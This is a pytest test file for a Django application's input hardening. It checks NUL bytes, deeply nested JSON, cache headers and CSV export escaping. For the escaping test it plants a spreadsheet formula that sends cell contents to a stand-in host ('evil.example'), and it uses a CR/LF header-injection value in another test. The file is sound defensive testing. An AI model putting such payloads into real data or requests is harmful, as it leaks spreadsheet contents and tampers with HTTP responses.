"""Hostile input answered 400, never 500 (issue 24 point 8); spreadsheet formulas neutralised
in every CSV export (point 9); nothing personal cached (point 10).

The generated probes at the end walk the API URLconf: every endpoint gets a NUL byte in a
query parameter and a JSON body nested 3,000 deep, as an API key holder and anonymously.
"""

import csv
import io
import re
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client, override_settings
from django.urls import URLPattern, URLResolver, get_resolver
from rest_framework.test import APIClient

from accounts.models import AuditEntry
from accounts.tokens import api_token_create
from analyses.services import reports_rebuild
from analyses.views import EXPORTS
from tests.analyses.test_reports import data  # noqa: F401 - fixture
from tests.conftest import Cast
from tests.placement.conftest import location_a, location_b, make_referral  # noqa: F401
from tests.security.conftest import report

pytestmark = pytest.mark.django_db

DEEP = "[" * 3000 + "]" * 3000
DEEP_OBJECT = '{"a":' * 3000 + "1" + "}" * 3000


def _token_client(cast: Cast, who: str = "coordinator") -> APIClient:
    _token, key = api_token_create(user=getattr(cast, who), name="probe")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    return client


def _signed_in(cast: Cast, who: str) -> Client:
    client = Client()
    client.force_login(getattr(cast, who))
    return client


# -- point 8: deep JSON ----------------------------------------------------------------------


@pytest.mark.parametrize("body", [DEEP, DEEP_OBJECT])
def test_deep_json_at_the_token_endpoint_is_a_400_naming_the_body(body: str) -> None:
    response = APIClient().post("/api/v1/auth/token/", body, content_type="application/json")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()["errors"]) == ["body"]


def test_json_nested_past_the_limit_is_refused_and_nothing_is_created(cast: Cast) -> None:
    from referrals.models import Referral

    before = Referral.objects.count()
    body = '{"need": ' + "[" * 101 + "]" * 101 + "}"
    response = _token_client(cast, "referrer").post(
        "/api/v1/referrals/", body, content_type="application/json"
    )
    assert response.status_code == 400
    assert "body" in response.json()["errors"]
    assert Referral.objects.count() == before


def test_json_within_the_limit_still_parses(cast: Cast) -> None:
    body = '{"name": ' + "[" * 50 + "]" * 50 + "}"
    response = APIClient().post("/api/v1/auth/token/", body, content_type="application/json")
    assert response.status_code == 400
    assert "body" not in response.json()["errors"]


# -- point 8: NUL bytes ---------------------------------------------------------------------


def test_a_nul_byte_in_an_api_query_parameter_is_a_json_400_naming_it(cast: Cast) -> None:
    response = _token_client(cast).get("/api/v1/referrals/", {"status": "sub\x00mitted"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()["errors"]) == ["status"]


@pytest.mark.parametrize(
    ("who", "url"),
    [
        ("coordinator", "/referrals/?q=a%00b"),
        ("coordinator", "/analyses/?periode=all%00"),
        ("coordinator", "/analyses/export/providers.csv?regio=%00"),
        ("admin", "/admin/accounts/user/?q=%00"),
        ("admin", "/audit/?verzoek=%00"),
    ],
)
def test_a_nul_byte_in_a_page_query_parameter_is_a_dutch_400(
    cast: Cast, who: str, url: str
) -> None:
    response = _signed_in(cast, who).get(url)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Ongeldig verzoek" in response.content.decode()


def test_a_nul_byte_in_a_form_field_is_refused_before_the_view(cast: Cast) -> None:
    count = AuditEntry.objects.count()
    response = Client().post("/accounts/login/", {"username": "a\x00b", "password": "x"})
    assert response.status_code == 400
    assert AuditEntry.objects.count() == count


# -- point 8: token endpoint, export period, error answers -----------------------------------


def test_a_username_over_255_characters_is_a_400_naming_username() -> None:
    response = APIClient().post(
        "/api/v1/auth/token/", {"username": "u" * 300, "password": "x"}, format="json"
    )
    assert response.status_code == 400
    assert list(response.json()["errors"]) == ["username"]


@pytest.mark.parametrize("period", ["2026-Q1\r\nX-Evil: 1", 'all"; x="', "all\nall", "2026-Q1\n"])
def test_an_export_period_with_cr_lf_or_quote_is_a_400_naming_period(
    cast: Cast, period: str
) -> None:
    response = _signed_in(cast, "coordinator").get(
        "/analyses/export/providers.csv", {"periode": period}
    )
    if period == "2026-Q1\n":  # surrounding white space is trimmed, as in every filter
        assert response.status_code == 200
        assert re.fullmatch(
            r'attachment; filename="[A-Za-z0-9._-]+"', response["Content-Disposition"]
        )
        return
    assert response.status_code == 400
    assert "periode" in response.content.decode().lower()


def test_every_content_disposition_keeps_only_safe_characters() -> None:
    from config.spreadsheet import attachment

    assert attachment('a"b\r\n c/ë.csv') == 'attachment; filename="abc.csv"'
    assert attachment("audittrail-ROP-2026-00191.csv").endswith('"audittrail-ROP-2026-00191.csv"')


@override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=1000)
def test_a_body_too_big_for_the_api_is_a_json_413(cast: Cast) -> None:
    response = _token_client(cast, "referrer").post(
        "/api/v1/referrals/", '{"x": "' + "a" * 5000 + '"}', content_type="application/json"
    )
    assert response.status_code == 413
    assert response["Content-Type"] == "application/json"
    assert list(response.json()["errors"]) == ["body"]


def test_a_server_error_under_the_api_answers_json(
    cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    from accounts import api

    def boom(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("boom")

    monkeypatch.setattr(api.MeView, "get", boom)
    client = _token_client(cast)
    client.raise_request_exception = False
    response = client.get("/api/v1/auth/me/")
    assert response.status_code == 500
    assert response["Content-Type"] == "application/json"
    detail = "Er ging iets mis aan onze kant. Probeer het later opnieuw."
    assert response.json() == {"detail": detail}


@pytest.mark.parametrize(("status", "key"), [(400, "errors"), (403, "detail"), (500, "detail")])
def test_the_error_handlers_answer_json_under_the_api(rf: Any, status: int, key: str) -> None:
    from config import error_pages

    handler = {400: error_pages.bad_request, 403: error_pages.permission_denied}.get(status)
    request = rf.get("/api/v1/anything/")
    response = handler(request, Exception()) if handler else error_pages.server_error(request)
    assert response.status_code == status
    assert response["Content-Type"] == "application/json"


# -- point 9: formula injection --------------------------------------------------------------


FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"klik")'


@pytest.mark.usefixtures("data")
@pytest.mark.parametrize("table", EXPORTS)
def test_no_export_cell_starts_a_formula(cast: Cast, table: str) -> None:
    for org in (cast.provider_a_org, cast.provider_b_org, cast.referrer_org):
        org.name = FORMULA if org == cast.provider_a_org else "+" + org.name
        org.save(update_fields=["name"])
    reports_rebuild()
    response = _signed_in(cast, "coordinator").get(f"/analyses/export/{table}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
    assert not [c for c in cells if c[:1] == "-" and not re.fullmatch(r"-\d+(,\d+)?", c)]
    if table in ("providers", "replacements"):
        assert "'" + FORMULA in cells


def test_the_csv_rule_is_said_once() -> None:
    from config.spreadsheet import csv_safe

    assert csv_safe("=1+1") == "'=1+1"
    assert csv_safe("@SUM(A1)") == "'@SUM(A1)"
    assert csv_safe("Aanbieder") == "Aanbieder"
    assert csv_safe("") == ""


# -- point 10: no-store ----------------------------------------------------------------------


def test_pages_of_a_signed_in_user_are_not_stored(cast: Cast) -> None:
    response = _signed_in(cast, "coordinator").get("/referrals/")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]


def test_api_answers_with_a_token_are_not_stored(cast: Cast) -> None:
    response = _token_client(cast).get("/api/v1/referrals/")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]


def test_the_token_answer_is_not_stored(cast: Cast) -> None:
    cast.coordinator.set_password("een-lang-wachtwoord-42")
    cast.coordinator.save()
    response = APIClient().post(
        "/api/v1/auth/token/",
        {"username": "coordinator", "password": "een-lang-wachtwoord-42"},
        format="json",
    )
    assert response.status_code in (200, 400)
    assert "no-store" in response["Cache-Control"]


def test_a_view_that_sets_its_own_cache_control_keeps_it(cast: Cast, rf: Any) -> None:
    from django.http import HttpResponse

    from accounts.security import NoStoreMiddleware

    def view(request: Any) -> HttpResponse:
        response = HttpResponse("x")
        response["Cache-Control"] = "public, max-age=60"
        return response

    request = rf.get("/referrals/")
    request.user = cast.coordinator
    assert NoStoreMiddleware(view)(request)["Cache-Control"] == "public, max-age=60"
    plain = NoStoreMiddleware(lambda r: HttpResponse("x"))(request)
    assert plain["Cache-Control"] == "no-store, private"


def test_an_anonymous_page_and_a_static_file_are_left_alone(rf: Any) -> None:
    from django.contrib.auth.models import AnonymousUser
    from django.http import HttpResponse

    from accounts.security import NoStoreMiddleware

    middleware = NoStoreMiddleware(lambda r: HttpResponse("x"))
    for path in ("/accounts/wachtwoord-vergeten/", "/static/app.css"):
        request = rf.get(path)
        request.user = AnonymousUser()
        assert "Cache-Control" not in middleware(request)


# -- generated probes over the API URLconf ----------------------------------------------------


def _api_routes() -> Iterator[str]:
    """Every API route of the URLconf, path ids filled in with 1."""

    def walk(patterns: list[Any], prefix: str) -> Iterator[str]:
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, route)
            elif isinstance(pattern, URLPattern):
                yield re.sub(r"<(?:\w+:)?\w+>", "1", route)

    for route in walk(get_resolver().url_patterns, "/"):
        if route.startswith("/api/v1/") and "docs" not in route and "schema" not in route:
            yield route


ROUTES = sorted(set(_api_routes()))


def _check(response: Any) -> None:
    assert response.status_code < 500, (response.status_code, response.content[:200])
    if response.status_code == 204:  # no content (sign-out): nothing to be JSON
        assert not response.content
        return
    assert response["Content-Type"] == "application/json", response["Content-Type"]


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("who", ["coordinator", None])
def test_probe_nul_and_deep_json_on_every_api_route(
    cast: Cast, route: str, who: str | None
) -> None:
    client = _token_client(cast, who) if who else APIClient()
    client.raise_request_exception = False
    probes = 0
    for params in ({"page": "1\x00"}, {"status": "\x00"}, {"q\x00": "x"}, {"period": "all\x00"}):
        response = client.get(route, params)
        _check(response)
        assert response.status_code in (400, 401, 403, 404, 405), response.status_code
        probes += 1
    for method in (client.post, client.patch, client.put):
        for body in (DEEP, DEEP_OBJECT):
            _check(method(route, body, content_type="application/json"))
            probes += 1
    report("hostile input (NUL, deep JSON)", probes=probes)


def test_the_probes_cover_the_api() -> None:
    assert len(ROUTES) >= 30
    assert "/api/v1/auth/token/" in ROUTES
